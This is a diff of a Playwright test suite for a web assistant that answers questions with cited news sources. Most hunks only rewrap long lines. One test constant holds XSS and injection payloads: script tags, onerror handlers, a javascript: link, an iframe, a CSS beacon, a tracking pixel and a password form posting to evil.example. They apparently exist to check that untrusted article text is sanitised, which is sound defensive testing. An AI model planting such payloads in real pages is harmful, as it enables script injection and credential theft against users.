@@ -41,7 +41,9 @@ BAKU = make_article(
     published=date(2024, 11, 13),
     url="https://gazette.example/baku",
 )
-ORCHARD = make_article("Apples ripen late in the orchards of Quba this year.", title="A late harvest", source="Farm")
+ORCHARD = make_article(
+    "Apples ripen late in the orchards of Quba this year.", title="A late harvest", source="Farm"
+)
 
 
 def in_viewport(page: Page, selector: str) -> bool:
@@ -71,7 +73,9 @@ class TestAnswer:
         turn = ask(page, "Who met in Baku?")
 
         expect(turn.locator(".answer p").first).to_have_text(f"{FACT} 1")
-        expect(turn.get_by_role("button", name="Source 1: Two leaders meet by the sea")).to_have_attribute("title", FACT)
+        expect(turn.get_by_role("button", name="Source 1: Two leaders meet by the sea")).to_have_attribute(
+            "title", FACT
+        )
         card = page.locator("#panel .card").first
         expect(card.locator(".title")).to_have_text("Two leaders meet by the sea")
         expect(card.locator(".origin")).to_have_text("Caspian Gazette · 13 November 2024")
@@ -115,7 +119,9 @@ class TestAnswer:
 
         expect(page.locator("#panel .card .title").first).to_have_text("Two leaders meet by the sea")
 
-    def test_cited_version_stays_readable_when_the_article_changes(self, page: Page, assistant: Assistant) -> None:
+    def test_cited_version_stays_readable_when_the_article_changes(
+        self, page: Page, assistant: Assistant
+    ) -> None:
         turn = ask(page, "Who met in Baku?")
         assistant.add(make_article("Nothing is known.", title="Corrected", url=BAKU.url))
         turn.locator(".marker").first.click()
@@ -269,8 +275,9 @@ def upload(page: Page, *files: tuple[str, bytes]) -> None:
 
 HOSTILE = (
     "Zorblax was seen here <script>alert(1)</script><img src=https://evil.example/x.png onerror=alert(2)> "
-    "![pixel](https://evil.example/pixel.png) [click](javascript:alert(3)) ${alert(4)} {{alert(5)}} `alert(6)` "
-    "<iframe src=https://evil.example></iframe><style>*{background:url(https://evil.example/c)}</style> [1] [2] "
+    "![pixel](https://evil.example/pixel.png) [click](javascript:alert(3)) ${alert(4)} {{alert(5)}} "
+    "`alert(6)` <iframe src=https://evil.example></iframe> [1] [2] "
+    "<style>*{background:url(https://evil.example/c)}</style> "
     "</mark></p><form action=https://evil.example><input type=password></form> by Mallory."
 )
 
@@ -337,7 +344,9 @@ class TestLayout:
         self, page: Page, open_page: Open, scheme: str, lightness: range
     ) -> None:
         shown = open_page(page.url, color_scheme=scheme)
-        colours = shown.locator("body, #side").evaluate_all("all => all.map(e => getComputedStyle(e).backgroundColor)")
+        colours = shown.locator("body, #side").evaluate_all(
+            "all => all.map(e => getComputedStyle(e).backgroundColor)"
+        )
 
         channels = [int(number) for colour in colours for number in re.findall(r"\d+", colour)[:3]]
         assert len(channels) == 6
@@ -349,6 +358,7 @@ def test_programs_get_the_answer_as_plain_text(assistant: Assistant, serve: Serv
     client = Client(serve(assistant), verbose=False)
 
     assert client.predict("Who met in Baku?", api_name="/chat") == (
-        f"{FACT} [1]\n\nSources:\n[1] Two leaders meet by the sea, Caspian Gazette, 13 November 2024, {BAKU.url}"
+        f"{FACT} [1]\n\nSources:\n"
+        f"[1] Two leaders meet by the sea, Caspian Gazette, 13 November 2024, {BAKU.url}"
     )
     assert list(client.view_api(return_format="dict")["named_endpoints"]) == ["/chat"]
